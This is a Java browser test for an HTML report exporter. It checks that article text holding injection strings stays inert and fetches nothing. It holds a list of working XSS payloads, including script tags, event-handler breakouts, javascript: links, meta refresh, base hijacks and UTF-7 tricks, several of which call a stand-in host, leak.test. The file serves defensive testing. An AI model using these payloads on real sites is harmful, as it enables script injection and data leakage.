package variorum.report.html;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import variorum.model.Collation;
import variorum.model.Notes;
import variorum.model.Version;
import variorum.progress.Monitor;
import variorum.read.VersionReader;
import variorum.report.content.Circumstances;
import variorum.report.content.Medium;
import variorum.report.content.Report;
import variorum.testing.Collated;

/**
 * In a real browser nothing of an article comes to life in its report. Without Chromium, or a browser of its family,
 * the tests are skipped.
 */
class InertPageTest {
    private static final String HOST = "leak.test";

    /** Each would mark the page or ask the host, if it were more than text. */
    private static final List<String> ATTACKS = List.of(
            "<script>document.body.setAttribute('ran', 1)</script>",
            "</p></td></table></main><script>document.body.setAttribute('ran', 2)</script>",
            "</style></title></textarea><script src=http://leak.test/a></script>",
            "<img src=http://leak.test/b onerror=\"document.body.setAttribute('ran', 3)\">",
            "<svg onload=\"document.body.setAttribute('ran', 4)\"><use href=http://leak.test/c></svg>",
            "\" autofocus onfocus=\"document.body.setAttribute('ran', 5)\" x=\"",
            "' style='background: url(http://leak.test/d)' onmouseover='x()",
            "<style>@import url(http://leak.test/e); body { background: url(http://leak.test/f) }</style>",
            "<link rel=stylesheet href=http://leak.test/g> <link rel=prefetch href=http://leak.test/h>",
            "<meta http-equiv=refresh content=\"0; url=http://leak.test/i\">",
            "<iframe src=\"data:text/html,<script>top.document.body.setAttribute('ran', 6)</script>\"></iframe>",
            "<iframe srcdoc=\"<img src=http://leak.test/j>\"></iframe> <object data=http://leak.test/k></object>",
            "<a href=\"javascript:document.body.setAttribute('ran', 7)\" ping=http://leak.test/l>here</a>",
            "<base href=http://leak.test/> <form action=http://leak.test/m><input autofocus></form>",
            "&lt;script&gt;document.body.setAttribute('ran', 8)&lt;/script&gt; &#60;script&#62; <!-- <![CDATA[ ]]> -->",
            "+ADw-script+AD4-document.body.setAttribute('ran', 9)+ADw-/script+AD4- <video src=http://leak.test/n>");

    @TempDir
    Path folder;

    private Optional<Chromium> browser = Optional.empty();

    @BeforeEach
    void findBrowser() throws IOException {
        browser = Chromium.installed(folder);
        assumeTrue(browser.isPresent());
    }

    @AfterEach
    void closeBrowser() throws IOException {
        if (browser.isPresent()) {
            browser.get().close();
        }
    }

    private String opened(String markup) throws Exception {
        Path page = Files.writeString(folder.resolve("report.html"), markup);
        return browser.orElseThrow().opened(page);
    }

    /** Versions that hold attacks in all kinds of places, and are called by them. */
    private static List<Version> versions() {
        List<String> base = new ArrayList<>();
        List<String> other = new ArrayList<>();
        for (int index = 0; index < ATTACKS.size(); index++) {
            base.add("Paragraph " + index + " of the article stays as it was. " + ATTACKS.get(index));
            other.add("Paragraph " + index + " of the article stays as it is. “12 "
                    + ATTACKS.get((index + 1) % ATTACKS.size()) + "”");
            other.add(ATTACKS.get(index));
        }
        return List.of(
                VersionReader.ofText(ATTACKS.get(0), String.join("\n\n", base), Monitor.NONE),
                VersionReader.ofText(ATTACKS.get(5), String.join("\n\n", other), Monitor.NONE));
    }

    @Test
    void nothingOfAnArticleRunsAndNothingIsFetched() throws Exception {
        Collation collation = Collated.collate(versions());
        Circumstances circumstances = new Circumstances(Instant.EPOCH, ATTACKS.get(2) + ATTACKS.get(3), List.of());
        Path report = folder.resolve("written.html");
        try (OutputStream out = Files.newOutputStream(report)) {
            new HtmlExporter().write(Report.of(collation, Notes.NONE, circumstances), Medium.FILE, out, Monitor.NONE);
        }
        String page = opened(Files.readString(report, UTF_8));

        assertThat(Jsoup.parse(page).select("[ran], script, img, svg, iframe, base, link"))
                .isEmpty();
        assertThat(Jsoup.parse(page).body().text()).contains(ATTACKS);
        assertThat(browser.orElseThrow().requestsTo(HOST)).isEmpty();
    }

    @Test
    void theSameTextAsMarkupWouldRunAndFetch() throws Exception {
        String page = opened("<!DOCTYPE html><body>" + ATTACKS.get(0) + ATTACKS.get(3) + "</body>");

        assertThat(Jsoup.parse(page).select("[ran]")).isNotEmpty();
        assertThat(browser.orElseThrow().requestsTo(HOST)).isNotEmpty();
    }

    @Test
    void theReportsPolicyForbidsItEvenAsMarkup() throws Exception {
        Collation collation = Collated.collate(versions());
        Path report = folder.resolve("written.html");
        try (OutputStream out = Files.newOutputStream(report)) {
            new HtmlExporter()
                    .write(
                            Report.of(collation, Notes.NONE, new Circumstances(Instant.EPOCH, "", List.of())),
                            Medium.FILE,
                            out,
                            Monitor.NONE);
        }
        String page = opened(Files.readString(report, UTF_8)
                .replace("<main", String.join("", ATTACKS.subList(0, 5)) + "<main"));

        assertThat(Jsoup.parse(page).select("script")).isNotEmpty();
        assertThat(Jsoup.parse(page).select("[ran]")).isEmpty();
        assertThat(browser.orElseThrow().requestsTo(HOST)).isEmpty();
    }
}
